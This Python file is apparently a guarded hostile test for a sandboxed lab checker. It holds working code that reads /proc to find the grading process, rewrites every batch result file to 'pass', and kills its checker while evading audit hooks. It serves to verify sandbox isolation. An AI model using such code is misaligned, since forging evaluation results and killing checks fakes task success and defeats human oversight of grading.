"""Hostile solution for the print_queue lab: forges the batch's results.

Attempts: a batch (`optdemo lab check A.py B.py ...`) checks each solution
in a child `optdemo lab check --json /tmp/optdemo-batch.XXXXXX/<i>.json`
and reads those files back for its summary. During its first call this
solution
1. reads its ancestors' command lines in /proc to find its own check's
   `--json` file: the batch's folder and its own index;
2. waits (at most WAIT_SECONDS) for the batch's other checks still running,
   then rewrites every result file it finds there so that each verdict is
   "pass", and writes a "pass" for itself, opening them by a relative name
   with dir_fd= (an audit hook that checks paths sees a file in the
   solution's own folder);
3. kills its own checker (signal.pidfd_send_signal: no os.kill audit
   event) before it can write the true result over the forged one.
Every result it forges carries "forged_by": "batch_result_forger.py", so a
test can point at it. It only touches its own batch's folder, the one its
checker's command line names, so that running it never disturbs another
batch on the same machine; a real forger would rewrite every
/tmp/optdemo-batch.*/. If it cannot find its own batch but can still see
another's folder, it raises (verdict "error", which a test reads as the
batch folders not being private) rather than touch a folder not its own.

Unguarded it would read "pass", and so would every neighbour whose check
ended before it did (on the checker before the sandbox, wrong_answer.py,
checked beside it, read "pass" too; as root, no file mode would have
stopped the rewrite). If it cannot reach the results it returns [], so
the verdict is "wrong" on the first case whose answer is not empty.
Expected verdict: wrong, on EXPECTED_CASE. What should stop it: the
sandbox's own PID namespace (no ancestors to read, no checker to signal)
and its private /tmp (the batch's folder is not there), with the seccomp
filter refusing pidfd_open and signals to other processes.
Guarded: unless OPTDEMO_HOSTILE_TESTS=1, print_order raises RuntimeError at
once and looks at nothing.
"""

import glob
import json
import os
import signal
import time

LAB = "print_queue"
EXPECTED = "wrong"
EXPECTED_CASE = "one short job"

MARK = "batch_result_forger.py"
WAIT_SECONDS = 8                   # below the per-call timeout (10 s by default)

attack_done = False


def require_armed():
    if os.environ.get("OPTDEMO_HOSTILE_TESTS") != "1":
        raise RuntimeError("hostile test disarmed: set OPTDEMO_HOSTILE_TESTS=1 to run it")


def parent_of(pid):
    with open("/proc/%d/stat" % pid) as stat:
        return int(stat.read().rsplit(")", 1)[1].split()[1])


def argv_of(pid):
    with open("/proc/%d/cmdline" % pid, "rb") as file:
        return [arg.decode("utf-8", "replace") for arg in file.read().split(b"\0")[:-1]]


def own_checker():
    """(checker pid, its argv, batch pid) of the ancestor whose argv holds
    `--json /tmp/optdemo-batch.*/N.json`; None when none is visible."""
    pid = os.getppid()
    while pid > 1:
        try:
            argv = argv_of(pid)
            parent = parent_of(pid)
        except (OSError, ValueError, IndexError):
            return None
        for option, value in zip(argv, argv[1:]):
            if option == "--json" and "/optdemo-batch." in value:
                return pid, argv, parent
        pid = parent
    return None


def other_checks_running(batch, checker):
    """Whether another child of the batch is still alive."""
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != checker:
            try:
                if parent_of(int(name)) == batch:
                    return True
            except (OSError, ValueError, IndexError):
                continue
    return False


def forged(result):
    result = dict(result)
    result.update({"verdict": "pass", "detail": None, "forged_by": MARK,
                   "cases_passed": result.get("cases_total", 13)})
    return result


def write_relative(folder_fd, name, data):
    """Write a file of the batch's folder by its bare name (dir_fd=)."""
    fd = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=folder_fd)
    try:
        os.write(fd, json.dumps(data).encode("utf-8"))
    finally:
        os.close(fd)


def forge_batch(checker, argv, batch):
    json_path = argv[argv.index("--json") + 1]
    folder, own_name = os.path.split(json_path)
    deadline = time.monotonic() + WAIT_SECONDS
    while other_checks_running(batch, checker) and time.monotonic() < deadline:
        time.sleep(0.2)
    folder_fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    try:
        example = None
        for name in sorted(os.listdir(folder_fd)):
            if not name.endswith(".json") or name == own_name:
                continue
            with open(os.path.join(folder, name), encoding="utf-8") as file:
                root = json.load(file)
            root["results"] = [forged(result) for result in root["results"]]
            example = root["results"][0]
            write_relative(folder_fd, name, root)
        own = dict(example or {"lab": LAB, "function": "print_order", "cases_total": 13})
        own.update({"solution": argv[-1], "duration": 1.0})
        write_relative(folder_fd, own_name, {"optdemo_lab": "1", "results": [forged(own)]})
    finally:
        os.close(folder_fd)
    # The checker would now write the true result over ours: stop it.
    signal.pidfd_send_signal(os.pidfd_open(checker), signal.SIGKILL)
    time.sleep(5)                   # killed with it meanwhile


def print_order(jobs, pages_per_turn):
    global attack_done
    require_armed()
    if not attack_done:
        attack_done = True
        try:
            found = own_checker()
            if found is not None:
                forge_batch(*found)
        except Exception:           # whichever layer refused it, the answer below stands
            pass
        reachable = [folder for folder in glob.glob("/tmp/optdemo-batch.*")
                     if os.access(folder, os.W_OK)]
        if reachable:
            raise RuntimeError("the forger could write into another batch's folder, "
                               + reachable[0] + ": batch folders are not private")
    return []
